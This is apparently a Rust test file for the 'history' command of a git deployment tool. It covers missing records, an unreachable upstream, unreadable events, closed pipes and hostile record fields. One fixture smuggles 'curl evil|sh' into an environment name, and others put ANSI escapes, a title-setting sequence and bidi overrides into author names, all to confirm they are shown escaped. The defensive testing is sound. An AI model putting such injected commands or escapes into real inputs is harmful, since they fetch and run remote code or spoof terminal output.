//! `history` with missing, damaged or hostile data.

use super::record::proposed;
use super::{NOON, Record, lines_of_three, promoted, three, with_record};
use crate::support::{Deploy, World};

#[test]
fn a_team_without_a_record_is_told_how_to_turn_it_on() {
    let deploy = World::deploy_like().ready();
    for args in [
        &["history"][..],
        &["history", "--json"],
        &["history", "--stats"],
    ] {
        let run = deploy.smp(args);
        run.exits(2)
            .prints("")
            .says("error: the team keeps no record, so there is no history\n");
        run.says("hint: add the line [record] to smp.toml and commit it, then: git smp setup\n");
    }
    deploy.add_toml("\n[record]\n");
    deploy
        .smp(&["history"])
        .exits(2)
        .prints("")
        .says("smp.toml changed since it was agreed to in this clone");
    deploy.trust();
    deploy.smp(&["history"]).ok();
}

#[test]
fn nothing_is_asked_before_somebody_agreed() {
    let deploy = World::deploy_like()
        .over_open_http()
        .main_over_http()
        .toml("[record]\n")
        .build();
    deploy
        .smp(&["history"])
        .exits(2)
        .prints("")
        .says("hint: review it and agree to it: git smp setup");
    assert_eq!(deploy.http().seen().len(), 0);
}

#[test]
fn only_the_main_repository_is_asked() {
    let deploy = with_record();
    three(&deploy);
    std::fs::remove_dir_all(&deploy.staging).unwrap();
    std::fs::remove_dir_all(&deploy.production).unwrap();
    deploy.git(&deploy.work, &["remote", "remove", "production"]);
    let run = deploy.smp(&["history"]);
    assert_eq!(
        run.ok()
            .prints(lines_of_three(&deploy).join("\n") + "\n")
            .stderr,
        ""
    );
}

/// Removes the main repository.
fn offline(deploy: &Deploy) {
    std::fs::rename(&deploy.main, deploy.path("away.git")).unwrap();
}

#[test]
fn without_the_main_repository_the_copy_of_this_clone_is_told_with_its_age() {
    let deploy = with_record();
    three(&deploy);
    deploy.smp(&["history"]).ok();
    offline(&deploy);
    let heard = deploy.work.join(".git/smp/record-heard");
    deploy
        .runner()
        .program("touch", &["-d", "3 days ago", heard.to_str().unwrap()])
        .ok();
    let expected = lines_of_three(&deploy).join("\n") + "\n";
    for args in [&["history"][..], &["history", "--quiet"]] {
        let run = deploy.smp(args);
        run.ok()
            .prints(&expected)
            .says("warning: the remote upstream does not answer (");
        run.says("; this clone's copy of the record is shown, read 3 days ago\n");
        assert_eq!(run.stderr.lines().count(), 1, "{run}");
    }
    assert_eq!(
        deploy.smp(&["history", "--json"]).ok().json()["deploys"]
            .as_array()
            .map(Vec::len),
        Some(3)
    );
    std::fs::remove_file(heard).unwrap();
    deploy
        .smp(&["history"])
        .ok()
        .says("this clone's copy of the record is shown, read at an unknown time\n");
}

#[test]
fn without_the_main_repository_and_without_a_copy_there_is_no_history() {
    let deploy = with_record();
    three(&deploy);
    offline(&deploy);
    for args in [&["history"][..], &["history", "--json"]] {
        deploy
            .smp(args)
            .exits(1)
            .prints("")
            .says("error: the remote upstream does not answer");
    }
}

#[test]
fn a_record_that_is_none_is_refused() {
    let deploy = with_record();
    deploy.git(
        &deploy.main,
        &["update-ref", "refs/smp/record", deploy.nth(3)],
    );
    deploy
        .smp(&["history"])
        .exits(1)
        .prints("")
        .says("error: the record cannot be read");
}

#[test]
fn events_that_cannot_be_read_are_left_out_and_counted() {
    let deploy = with_record();
    let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
    let mut record = Record::default();
    record.ada(NOON, &promoted("production", one, two, 1, &[]));
    record.ada(NOON, "Smp-Event: teleported\nSmp-Commit: 1\n");
    record.put(&deploy);
    let run = deploy.smp(&["history"]);
    assert_eq!(run.ok().out().lines().count(), 1);
    let why = "of the record cannot be read (damaged, or from a newer git-smp), so the list is incomplete\n";
    assert_eq!(run.stderr, format!("warning: 1 event {why}"));
    record.raw("Ada Example", NOON, "just a commit\n");
    record.raw("Ada Example", NOON, "");
    record.ada(NOON, &promoted("production", "1f13dc69", two, 1, &[]));
    record.ada(
        NOON,
        &promoted("production", two, one, 1, &[]).replace("Commits: 1", "Commits: -1"),
    );
    record.ada(NOON, &promoted("production", one, two, u64::MAX, &[]));
    record.put(&deploy);
    let run = deploy.smp(&["history", "--stats", "--quiet"]);
    run.ok()
        .prints_among("production: 2 promotions and 0 rollbacks");
    assert_eq!(run.stderr, format!("warning: 5 events {why}"));
}

#[test]
fn what_would_act_on_a_terminal_is_shown_and_does_not_act() {
    let deploy = with_record();
    let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
    let evil = "Ev\u{1b}[2Jil\u{9b}1m \u{202e}Ada";
    let mut record = Record::default();
    record.add(evil, NOON, &proposed("staging", two, "production", one));
    record.add(
        evil,
        NOON,
        &promoted(
            "production",
            one,
            two,
            1,
            &[evil, "\u{1b}]0;owned\u{7}", "two\n lines"],
        ),
    );
    // No environment can have this name.
    record.add(evil, NOON, &promoted(evil, one, two, 1, &[]));
    record.put(&deploy);
    let shown = "Ev\\x1b[2Jil\\x9b1m \\u202eAda";
    let run = deploy.smp(&["history", "--stats"]);
    run.says("warning: 1 event of the record cannot be read");
    let expected = format!("{shown}, signed off by {shown}, \\x1b]0;owned\\x07, two\\x0alines\n");
    run.ok()
        .prints_among(&expected)
        .prints_among("2022-03-02 12:00  production  ");
    run.prints_among("\nproduction: 1 promotion and 0 rollbacks since 2022-03-02\n");
    let json = deploy.smp(&["history", "--stats", "--json"]);
    assert_eq!(json.ok().json()["deploys"][0]["by"], evil);
    let screen = deploy
        .runner()
        .env("NO_COLOR", "1")
        .terminal(&["history", "--stats"])
        .ends()
        .ok()
        .stderr
        .clone();
    for out in [run.out(), json.out(), screen.replace('\r', "")] {
        let acts = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}');
        assert!(!out.contains(acts), "{out:?}");
    }
}

#[test]
fn a_reader_that_went_away_ends_it_quietly() {
    let deploy = with_record();
    let mut record = Record::default();
    for _ in 0..3000 {
        record.ada(
            NOON,
            &promoted("production", deploy.nth(1), deploy.nth(2), 1, &[]),
        );
    }
    record.put(&deploy);
    let run = deploy.runner().program(
        "sh",
        &["-c", "{ git smp history; echo $? >code; } | head -1"],
    );
    assert_eq!(run.ok().out().lines().count(), 1);
    assert_eq!(
        (
            run.stderr.as_str(),
            std::fs::read_to_string(deploy.work.join("code"))
                .unwrap()
                .trim()
        ),
        ("", "0")
    );
}

#[test]
fn what_was_seen_is_told_whatever_its_names_and_clocks() {
    let deploy = with_record();
    let [one, two] = [1, 2].map(|nth| deploy.nth(nth));
    let seen = |environment: &str, since: &str| {
        format!(
            "Smp-Event: observed\nSmp-Commit: {two}\nSmp-Environment: {environment}\nSmp-From: {one}\nSmp-Since: {since}\n"
        )
    };
    let mut record = Record::default();
    record.ada(NOON, &promoted("production", one, two, 1, &[]));
    record.add(
        "Ada \u{202e}Example",
        4_102_444_800,
        &seen("production", "-9223372036854775808"),
    );
    record.ada(NOON, &seen("production; curl evil|sh #\u{1b}[2J", "0"));
    record.ada(NOON + 60, &seen("production", "9223372036854775807"));
    record.ada(NOON + 120, &seen("production", &(NOON + 60).to_string()));
    for garbage in ["soon", "9223372036854775808", ""] {
        record.ada(NOON, &seen("production", garbage));
    }
    record.put(&deploy);
    let run = deploy.smp(&["history", "--stats"]);
    crate::record::is_harmless(&run);
    run.ok().says("4 events of the record cannot be read");
    run.prints_among("seen by Ada Example, deployed outside git smp before 2022-03-02 12:01\n");
    run.prints_among(
        "seen by Ada Example, deployed outside git smp between 2022-03-02 12:01 and 12:02\n",
    );
    run.prints_among("deployed outside git smp between an impossible date and 2100-01-01 00:00\n");
    let json = deploy.smp(&["history", "--json"]).ok().json();
    let since: Vec<&serde_json::Value> = (0..3).map(|at| &json["deploys"][at]["since"]).collect();
    assert_eq!(
        since,
        [
            &"2022-03-02T12:01:00+00:00".into(),
            &serde_json::Value::Null,
            &serde_json::Value::Null
        ]
    );
    assert_eq!(json["deploys"][0]["commits"], serde_json::Value::Null);
}
